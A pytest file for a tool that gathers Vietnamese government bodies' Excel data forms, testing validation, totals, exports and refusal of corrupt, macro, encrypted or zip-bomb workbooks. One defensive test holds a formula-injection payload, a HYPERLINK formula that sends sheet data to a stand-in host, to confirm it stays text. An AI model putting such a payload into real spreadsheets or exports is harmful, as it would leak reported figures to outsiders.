"""Data forms (biểu mẫu): the template, a body's filled workbook, the checks, the totals."""

from __future__ import annotations

import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from demo.forms import DEMO_VALUES, fill
from tests.docx_samples import with_part, zip_bomb
from tests.steps import CYCLE, REPORTS, accept, ok
from tests.test_bad_input import fails_cleanly, snapshot

Cli = Callable[..., Any]
NOW = "2024-07-08T10:00"


def blank(cli: Cli, tmp_path: Path, body: str | None = "HDND", period: str = "2024-H1") -> bytes:
    out = tmp_path / f"mau-{body}.xlsx"
    extra = ("--body", body) if body else ()
    ok(cli("program", "form-template", "QD238", *extra, "--period", period, "--out", out,
           "--json"))  # fmt: skip
    return out.read_bytes()


def filled(cli: Cli, tmp_path: Path, body: str, values: dict[str, Any] | None = None) -> Path:
    path = tmp_path / f"BM01-{body}.xlsx"
    path.write_bytes(fill(blank(cli, tmp_path, body), {"BM01": values or DEMO_VALUES[body]}))
    return path


def send(cli: Cli, body: str, *forms: Path, now: str = NOW, report: Path | None = None) -> Any:
    extra = [x for f in forms for x in ("--form", f)]
    name = "VKSND-v2" if body == "VKSND" else body
    return ok(cli("submit", report or REPORTS / f"{name}.md", *extra, "--cycle", CYCLE,
                  "--body", body, "--now", now, "--json"))  # fmt: skip


def test_the_template_names_the_body_and_period_and_validates_cells(
    open_cycle: Cli, tmp_path: Path
) -> None:
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(blank(open_cycle, tmp_path)))
    sheet = book["BM01"]
    assert "Thường trực Hội đồng nhân dân tỉnh (HDND)" in sheet["A3"].value
    assert "6 tháng đầu năm 2024 (2024-H1)" in sheet["A4"].value
    assert [sheet.cell(row=r, column=2).value for r in range(8, 14)] == [
        "HN", "TIN", "KN", "KN_GQ", "TL_GQ", "GHI_CHU",
    ]  # fmt: skip
    assert sheet["D8"].value == "hội nghị" and sheet["D12"].value == "%"
    rules = {str(v.sqref): v for v in sheet.data_validations.dataValidation}
    assert (rules["E8"].type, rules["E8"].formula1, rules["E8"].formula2) == ("whole", "0", "1000")
    assert rules["E12"].type == "decimal" and rules["E13"].type == "textLength"
    assert book["_phoihop"].sheet_state == "hidden"
    assert sheet.protection.sheet and sheet["E8"].protection.locked is False


def test_a_body_sends_its_figures_with_its_report(open_cycle: Cli, tmp_path: Path) -> None:
    from services.forms import version_forms

    result = send(open_cycle, "HDND", filled(open_cycle, tmp_path, "HDND"))
    assert result["forms"] == ["BM01"]
    [entry] = version_forms(result["task"])
    assert entry["values"] == {"HN": 12, "TIN": 45, "KN": 120, "KN_GQ": 102, "TL_GQ": 85.0}
    assert entry["source_name"] == "BM01-HDND.xlsx"


def test_numbers_as_officials_type_them(open_cycle: Cli, tmp_path: Path) -> None:
    from services.forms import version_forms

    values = {"HN": "12", "TIN": "1.234", "KN": "2 000", "KN_GQ": 1500, "TL_GQ": "75%"}
    result = send(open_cycle, "HDND", filled(open_cycle, tmp_path, "HDND", values))
    [entry] = version_forms(result["task"])
    assert entry["values"] == {"HN": 12, "TIN": 1234, "KN": 2000, "KN_GQ": 1500, "TL_GQ": 75}


def test_a_wrong_cell_is_one_vietnamese_line_naming_sheet_cell_and_indicator(
    open_cycle: Cli, tmp_path: Path
) -> None:
    path = filled(open_cycle, tmp_path, "HDND", {"HN": "nhiều", "TIN": 1, "KN": 1, "KN_GQ": 1})
    line = fails_cleanly(open_cycle, "submit", REPORTS / "HDND.md", "--form", path,
                         "--cycle", CYCLE, "--body", "HDND")  # fmt: skip
    assert line == (
        "phoihop: lỗi: Biểu BM01, ô E8 (HN — Số hội nghị, buổi làm việc phối hợp): "
        "cần số nguyên từ 0 đến 1000 (hội nghị), nhận được «nhiều»"
    )


def test_each_wrong_cell_gets_its_own_line(open_cycle: Cli, tmp_path: Path) -> None:
    values = {"HN": -1, "TIN": 2.5, "KN": 10, "KN_GQ": 5, "TL_GQ": 90}
    path = filled(open_cycle, tmp_path, "HDND", values)
    before = snapshot()
    result = open_cycle("submit", REPORTS / "HDND.md", "--form", path, "--cycle", CYCLE,
                        "--body", "HDND")  # fmt: skip
    lines = result.err.splitlines()
    assert result.code == 1 and snapshot() == before
    assert len(lines) == 3, result.err  # KN, KN_GQ are fine; the rate does not match them
    assert "ô E8 (HN" in lines[0] and "nhận được «-1»" in lines[0]
    assert "ô E9 (TIN" in lines[1] and "«2.5»" in lines[1]
    assert "ô E12 (TL_GQ" in lines[2] and "không khớp với KN_GQ/KN (= 50)" in lines[2]
    assert "ô E11" not in result.err


def test_a_required_cell_left_blank_is_named(open_cycle: Cli, tmp_path: Path) -> None:
    path = filled(open_cycle, tmp_path, "HDND", {"HN": 1, "TIN": 1, "KN": 1})
    line = fails_cleanly(open_cycle, "submit", REPORTS / "HDND.md", "--form", path,
                         "--cycle", CYCLE, "--body", "HDND")  # fmt: skip
    assert "ô E11 (KN_GQ — Số kiến nghị đã được giải quyết): chưa nhập" in line


def test_a_formula_is_read_as_its_value_or_refused_never_zero(
    open_cycle: Cli, tmp_path: Path
) -> None:
    path = filled(open_cycle, tmp_path, "HDND", {"HN": "=2+3", "TIN": 1, "KN": 1, "KN_GQ": 1})
    line = fails_cleanly(open_cycle, "submit", REPORTS / "HDND.md", "--form", path,
                         "--cycle", CYCLE, "--body", "HDND")  # fmt: skip
    assert "ô E8 (HN" in line and "công thức =2+3 chưa có giá trị" in line


def test_a_formula_with_its_stored_value_is_taken(open_cycle: Cli, tmp_path: Path) -> None:
    """What Excel saves: the formula and the value it computed."""
    import zipfile

    from services.forms import version_forms

    path = filled(open_cycle, tmp_path, "HDND", {"HN": "=2+3", "TIN": 1, "KN": 1, "KN_GQ": 1})
    source = zipfile.ZipFile(path)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename.startswith("xl/worksheets/"):
                data = data.replace(b"<f>2+3</f><v></v>", b"<f>2+3</f><v>5</v>")
                data = data.replace(b"<f>2+3</f>", b"<f>2+3</f><v>5</v>").replace(
                    b"<v>5</v><v>5</v>", b"<v>5</v>"
                )
            target.writestr(item, data)
    path.write_bytes(out.getvalue())
    result = send(open_cycle, "HDND", path)
    assert version_forms(result["task"])[0]["values"]["HN"] == 5


def _not_a_template() -> bytes:
    import xlsxwriter

    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    book.add_worksheet("Sheet1").write(0, 0, "Số liệu")
    book.close()
    return out.getvalue()


def _encrypted() -> bytes:
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "EncryptedPackage".encode("utf-16-le")
    )


BAD_WORKBOOKS: dict[str, tuple[str, Callable[[bytes], bytes], str]] = {
    "not the program's template": ("khac.xlsx", lambda t: _not_a_template(), "không phải biểu mẫu"),
    "corrupt workbook": ("hong.xlsx", lambda t: t[: len(t) // 2], "not a readable"),
    "password-protected workbook": ("mk.xlsx", lambda t: _encrypted(), "password-protected"),
    "macro-enabled .xlsm": ("macro.xlsm", lambda t: t, "macro-enabled"),
    "macros inside a .xlsx": (
        "macro.xlsx",
        lambda t: with_part(t, "xl/vbaProject.bin", b"\0" * 64),
        "macro-enabled",
    ),
    "oversized workbook": ("lon.xlsx", lambda t: b"PK\x03\x04" + b"\0" * (10 * 2**20), "10 MiB"),
    "zip bomb": ("bom.xlsx", lambda t: zip_bomb(), "refused unopened"),
    "a Word file as the form": ("bc.xlsx", lambda t: _word(), "not an Excel workbook"),
    "made for another body": ("ubnd.xlsx", lambda t: t, "lập cho cơ quan UBND, không phải HDND"),
    "made for another period": ("q3.xlsx", lambda t: t, "lập cho kỳ 2024-H2, không phải 2024-H1"),
}


def _word() -> bytes:
    from tests.docx_samples import heading_style_report

    return heading_style_report()


@pytest.mark.parametrize("case", list(BAD_WORKBOOKS), ids=list(BAD_WORKBOOKS))
def test_a_bad_workbook_is_one_line_and_changes_nothing(
    open_cycle: Cli, tmp_path: Path, case: str
) -> None:
    name, make, message = BAD_WORKBOOKS[case]
    body, period = "HDND", "2024-H1"
    if case == "made for another body":
        body = "UBND"
    if case == "made for another period":
        period = "2024-H2"
    template = fill(blank(open_cycle, tmp_path, body, period), {"BM01": DEMO_VALUES["HDND"]})
    path = tmp_path / name
    path.write_bytes(make(template))
    line = fails_cleanly(open_cycle, "submit", REPORTS / "HDND.md", "--form", path,
                         "--cycle", CYCLE, "--body", "HDND", "--lang", "en")  # fmt: skip
    assert message in line, line


def test_rows_moved_in_the_template_are_refused(open_cycle: Cli, tmp_path: Path) -> None:
    import openpyxl

    path = filled(open_cycle, tmp_path, "HDND")
    book = openpyxl.load_workbook(path)
    book["BM01"]["B9"] = "KN"
    book.save(path)
    line = fails_cleanly(open_cycle, "submit", REPORTS / "HDND.md", "--form", path,
                         "--cycle", CYCLE, "--body", "HDND")  # fmt: skip
    assert "không đúng mẫu: ô B9 phải là mã TIN" in line


def test_a_returned_report_keeps_its_figures_unless_they_are_sent_again(
    open_cycle: Cli, tmp_path: Path
) -> None:
    from services.forms import version_forms

    first = send(open_cycle, "HDND", filled(open_cycle, tmp_path, "HDND"))
    ok(open_cycle("review", "return", "--task", first["task"], "--comment", "Bổ sung số liệu",
                  "--due", "2024-07-19", "--now", "2024-07-09T08:00", "--json"))  # fmt: skip
    second = send(open_cycle, "HDND", now="2024-07-10T08:00", report=REPORTS / "UBND.md")
    [carried] = version_forms(first["task"], 2)
    assert second["forms"] == ["BM01"] and carried["carried_from"] == 1
    assert carried["values"]["HN"] == 12
    ok(open_cycle("review", "return", "--task", first["task"], "--comment", "Số liệu sai",
                  "--due", "2024-07-19", "--now", "2024-07-11T08:00", "--json"))  # fmt: skip
    fixed = dict(DEMO_VALUES["HDND"], HN=14)
    send(open_cycle, "HDND", filled(open_cycle, tmp_path, "HDND", fixed), now="2024-07-11T09:00",
         report=REPORTS / "UBND.md")  # fmt: skip
    [third] = version_forms(first["task"], 3)
    assert third["values"]["HN"] == 14 and third["carried_from"] is None
    # The task page reads the same in one go: each version's figures, and the form
    # to fill with the latest version's, in statements that do not grow with versions.
    from sqlalchemy import event

    from services import db
    from services.forms import task_forms

    statements: list[str] = []
    grab = lambda *args: statements.append(args[2])  # noqa: E731
    event.listen(db.engine(), "before_cursor_execute", grab)
    try:
        by_version, forms = task_forms(first["task"])
    finally:
        event.remove(db.engine(), "before_cursor_execute", grab)
    assert by_version == {n: version_forms(first["task"], n) for n in (1, 2, 3)}
    assert [v["values"]["HN"] for v in (by_version[n][0] for n in (1, 2, 3))] == [12, 12, 14]
    [form] = forms
    assert form["code"] == "BM01"
    hn = next(c for c in form["cells"] if c["key"] == "HN")
    assert hn["value"] == 14 and hn["name"]
    assert len([s for s in statements if s.lstrip().upper().startswith("SELECT")]) <= 3


def test_totals_sum_the_accepted_bodies_and_name_who_is_missing(
    open_cycle: Cli, tmp_path: Path
) -> None:
    for body in ("HDND", "UBND", "SO-TTTT"):
        send(open_cycle, body, filled(open_cycle, tmp_path, body))
    send(open_cycle, "TAND")  # a report without the form
    for body in ("HDND", "UBND", "TAND"):
        accept(open_cycle, body, "2024-07-15T09:00")  # SO-TTTT's waits for review
    totals = ok(open_cycle("cycle", "totals", CYCLE, "--json"))
    [form] = totals["forms"]
    cells = {c["key"]: c for c in form["cells"]}
    assert cells["HN"]["total"] == 12 + 25 and cells["KN"]["total"] == 120 + 310
    assert cells["HN"]["reported"] == ["HDND", "UBND"]
    assert cells["HN"]["missing"] == ["VKSND", "TAND", "SO-TTTT", "SO-TP", "SO-VHTTDL"]
    # the rate is recomputed from its parts' sums, never summed nor averaged
    assert cells["TL_GQ"]["total"] == round(100 * (102 + 260) / (120 + 310), 2)
    assert cells["TL_GQ"]["derived"] is True
    assert form["not_sent"] == ["VKSND", "TAND", "SO-TTTT", "SO-TP", "SO-VHTTDL"]
    shown = open_cycle("cycle", "totals", CYCLE)
    assert "84,19% (tính lại)" in shown.out and "2/7 cơ quan có số liệu" in shown.out


def test_the_summed_workbook_has_a_total_row_equal_to_the_sum(
    open_cycle: Cli, tmp_path: Path
) -> None:
    import openpyxl

    for body in DEMO_VALUES:
        send(open_cycle, body, filled(open_cycle, tmp_path, body))
        accept(open_cycle, body, "2024-07-12T09:00")
    out = tmp_path / "tong-hop.xlsx"
    ok(open_cycle("cycle", "totals", CYCLE, "--xlsx", out, "--json"))
    book = openpyxl.load_workbook(out, data_only=True)
    sheet = book["Tổng hợp"]
    rows = list(sheet.iter_rows(min_row=4, values_only=True))
    header, bodies = rows[0], rows[1:8]
    total = next(r for r in rows if r[2] == "Tổng cộng")
    assert [r[1] for r in bodies] == ["HDND", "UBND", "VKSND", "TAND", "SO-TTTT", "SO-TP",
                                      "SO-VHTTDL"]  # fmt: skip
    for x, title in enumerate(header):
        if title and title.startswith("BM01 ") and "TL_GQ" not in title and x >= 3:
            assert total[x] == sum(r[x] or 0 for r in bodies), title
    assert total[header.index("BM01 HN: Số hội nghị, buổi làm việc phối hợp")] == 66
    rate = header.index("BM01 TL_GQ: Tỷ lệ kiến nghị được giải quyết (%)")
    assert total[rate] == pytest.approx(85.32, abs=0.01)
    formulas = openpyxl.load_workbook(out)["Tổng hợp"]
    assert str(formulas.cell(row=12, column=4).value).startswith("=SUM(D5:D11)")
    per_form = list(book["BM01"].iter_rows(min_row=3, values_only=True))
    assert per_form[0][-1] == "Đã gửi" and per_form[2][-2] == "Số liệu đến 14/6/2024"


def test_cycle_report_writes_the_summed_workbook(open_cycle: Cli, tmp_path: Path) -> None:
    import openpyxl

    for body in DEMO_VALUES:
        send(open_cycle, body, filled(open_cycle, tmp_path, body), now="2024-07-10T09:00")
        accept(open_cycle, body, "2024-07-11T09:00")
    ok(open_cycle("synthesize", CYCLE, "--now", "2024-07-22T09:00", "--json"))
    out = tmp_path / "bao-cao.xlsx"
    plain = open_cycle("cycle", "report", CYCLE)
    with_xlsx = open_cycle("cycle", "report", CYCLE, "--xlsx", out)
    assert with_xlsx.code == 0 and with_xlsx.out == plain.out  # the report printed as before
    assert "Tổng hợp" in openpyxl.load_workbook(out).sheetnames


def test_a_required_form_must_come_with_the_report(cli: Cli, tmp_path: Path) -> None:
    from tests.steps import DEMO_DATA, OPEN_CYCLE_STEP, SEED_PROGRAM

    program = SEED_PROGRAM.read_text(encoding="utf-8")
    path = tmp_path / "program.yaml"
    path.write_text(
        program.replace("    title: Số liệu phối hợp tuyên truyền\n",
                        "    title: Số liệu phối hợp tuyên truyền\n    required: true\n"),
        encoding="utf-8",
    )  # fmt: skip
    ok(cli("bodies", "import", DEMO_DATA / "bodies.csv", "--now", "2024-07-01", "--json"))
    ok(cli("program", "add", path, "--now", "2024-07-01", "--json"))
    ok(cli(*OPEN_CYCLE_STEP, "--json"))
    line = fails_cleanly(cli, "submit", REPORTS / "HDND.md", "--cycle", CYCLE, "--body", "HDND")
    assert "needs the data form(s) BM01" in line
    send(cli, "HDND", filled(cli, tmp_path, "HDND"))


@pytest.mark.parametrize(
    "change, message",
    [
        ("type: integer, min: 0, max: 1000}", "min is above max"),
        ("denominator: KN,", "not a numeric indicator"),
        ("numerator: KN_GQ,", "give both numerator and denominator"),
    ],
)
def test_a_bad_form_declaration_is_one_line(
    demo_org: Cli, tmp_path: Path, change: str, message: str
) -> None:
    from tests.steps import SEED_PROGRAM

    program = SEED_PROGRAM.read_text(encoding="utf-8")
    replacement = {
        "type: integer, min: 0, max: 1000}": "type: integer, min: 10, max: 1}",
        "denominator: KN,": "denominator: GHI_CHU,",
        "numerator: KN_GQ,": "",
    }[change]
    path = tmp_path / "program.yaml"
    path.write_text(program.replace("QD238", "QD238B").replace(change, replacement, 1), "utf-8")
    line = fails_cleanly(demo_org, "program", "add", path)
    assert message in line and "forms.0" in line


def test_dashboard_and_task_list_export_to_csv_and_xlsx(open_cycle: Cli, tmp_path: Path) -> None:
    import openpyxl

    csv_path, xlsx_path = tmp_path / "bang.csv", tmp_path / "bang.xlsx"
    now = ("--now", "2024-07-20T08:00")
    shown = open_cycle("dashboard", *now)
    result = open_cycle("dashboard", "--csv", csv_path, "--xlsx", xlsx_path, *now)
    assert result.code == 0 and result.out == shown.out
    text = csv_path.read_bytes().decode("utf-8")
    assert text.startswith("\ufeffNhiệm vụ quá hạn") and "Sở Văn hóa, Thể thao và Du lịch" in text
    book = openpyxl.load_workbook(xlsx_path)
    assert book.sheetnames == ["Quá hạn", "Tiến độ các kỳ", "Tuân thủ"]
    overdue = list(book["Quá hạn"].iter_rows(min_row=4, values_only=True))
    assert len(overdue) == 7  # every body is late by the 20th
    tasks_csv = tmp_path / "nhiem-vu.csv"
    ok(open_cycle("tasks", "list", "--overdue", "--csv", tasks_csv, *now, "--json"))
    lines = tasks_csv.read_text(encoding="utf-8-sig").splitlines()
    assert lines[0].startswith("Kỳ,Task,Mã,Cơ quan") and len(lines) == 8


def test_a_note_that_looks_like_a_formula_stays_text_in_the_coordinators_files(
    open_cycle: Cli, tmp_path: Path
) -> None:
    """A body's text indicator reaches the coordinator's workbook and CSV as text: never a
    live formula (a HYPERLINK that sends the sheet's figures elsewhere)."""
    import openpyxl

    trap = '=HYPERLINK("http://x.example/?"&B5,"Xem")'
    path = filled(open_cycle, tmp_path, "HDND", DEMO_VALUES["HDND"] | {"GHI_CHU": "chỗ"})
    book = openpyxl.load_workbook(path)
    [cell] = [c for row in book["BM01"].iter_rows() for c in row if c.value == "chỗ"]
    cell.value, cell.data_type = trap, "s"  # text, as Excel keeps a cell typed '=…
    book.save(path)
    send(open_cycle, "HDND", path)
    accept(open_cycle, "HDND", "2024-07-15T09:00")
    book_path, csv_path = tmp_path / "tong-hop.xlsx", tmp_path / "tong-hop.csv"
    ok(open_cycle("cycle", "totals", CYCLE, "--xlsx", book_path, "--csv", csv_path, "--json"))
    cells = [c for sheet in openpyxl.load_workbook(book_path) for row in sheet.iter_rows()
             for c in row if c.value == trap]  # fmt: skip
    assert cells and all(c.data_type == "s" for c in cells)  # "f" would be a formula
    from services.exports import Sheet, csv_bytes  # a CSV cell opened in Excel: text too

    text = csv_bytes([Sheet("x", ["Ghi chú", "Số"], [[trap, -5], ["- gạch đầu dòng", 3]])])
    assert text.decode("utf-8-sig").splitlines()[1:] == [
        '"\'=HYPERLINK(""http://x.example/?""&B5,""Xem"")",-5', "'- gạch đầu dòng,3",
    ]  # fmt: skip


def test_a_workbook_whose_sheet_is_damaged_is_one_line(open_cycle: Cli, tmp_path: Path) -> None:
    """Read-only openpyxl parses a sheet only when it is read: a damaged sheet inside an
    otherwise sound file is refused in one line, not a traceback."""
    import zipfile

    data = filled(open_cycle, tmp_path, "HDND").read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        name = next(n for n in archive.namelist() if n.startswith("xl/worksheets/")
                    and b"<v>12</v>" in archive.read(n))  # fmt: skip
        sheet = archive.read(name)
    damaged = tmp_path / "BM01-HDND.xlsx"
    damaged.write_bytes(with_part(data, name, sheet.replace(b"<v>12</v>", b"<v>abc</v>", 1)))
    line = fails_cleanly(open_cycle, "submit", REPORTS / "HDND.md", "--form", damaged,
                         "--cycle", CYCLE, "--body", "HDND", "--now", NOW)  # fmt: skip
    assert "BM01-HDND.xlsx: not a readable Excel workbook" in line
